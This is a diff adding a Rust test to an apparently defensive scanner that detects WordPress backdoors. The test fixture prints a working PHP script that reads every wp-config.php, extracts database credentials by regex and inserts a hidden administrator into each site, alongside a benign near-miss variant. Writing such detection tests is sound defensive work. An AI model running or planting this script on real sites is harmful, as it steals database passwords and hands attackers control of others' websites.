@@ -330,6 +330,34 @@ fn administrators_added_by_raw_sql_from_a_form_are_a_backdoor() {
 }
 
 #[test]
+fn administrators_added_to_every_site_whose_settings_are_parsed_are_a_backdoor() {
+    // fresh74's admin adder: every `wp-config.php` under the account read as text, the database
+    // password picked out by a pattern, an administrator inserted into each site.
+    let adder = r#"<?php $u = "SuperAdmin"; $p = "x";
+        foreach (new RecursiveIteratorIterator(new RecursiveDirectoryIterator('.')) as $f) {
+          if (basename($f) == 'wp-config.php') { $c = file_get_contents($f);
+            preg_match("/DB_PASSWORD['"],\s*['"]([^'"]+)['"]/", $c, $pw);
+            preg_match("/DB_NAME['"],\s*['"]([^'"]+)['"]/", $c, $db);
+            $pdo = new PDO("mysql:host=localhost;dbname={$db[1]}", 'u', $pw[1]);
+            $pdo->prepare("INSERT INTO wp_users (user_login, user_pass) VALUES (?, ?)")->execute([$u, md5($p)]);
+            $pdo->prepare("INSERT INTO wp_usermeta (user_id, meta_key, meta_value) VALUES (?, ?, ?)")
+                ->execute([$pdo->lastInsertId(), 'wp_capabilities', 'a:1:{s:13:"administrator";b:1;}']); } }"#;
+    assert_eq!(found(adder), [(Why::AdminBackdoor, Danger::High)]);
+    // Near-miss: a backup tool that reads the settings for the password and dumps the users'
+    // tables, writing no administrator.
+    let backup = adder
+        .replace(
+            "INSERT INTO wp_users (user_login, user_pass) VALUES (?, ?)",
+            "SELECT user_login, user_pass FROM wp_users",
+        )
+        .replace(
+            "INSERT INTO wp_usermeta (user_id, meta_key, meta_value) VALUES (?, ?, ?)",
+            "SELECT meta_value FROM wp_usermeta",
+        );
+    assert!(found(&backup).is_empty(), "{:?}", found(&backup));
+}
+
+#[test]
 fn the_gate_finds_its_words_where_the_whole_pattern_would() {
     // The gate looks for the pattern only where one of its first words is (in a lowercase
     // copy), anchored there: on generated texts it answers as the pattern over the whole text.
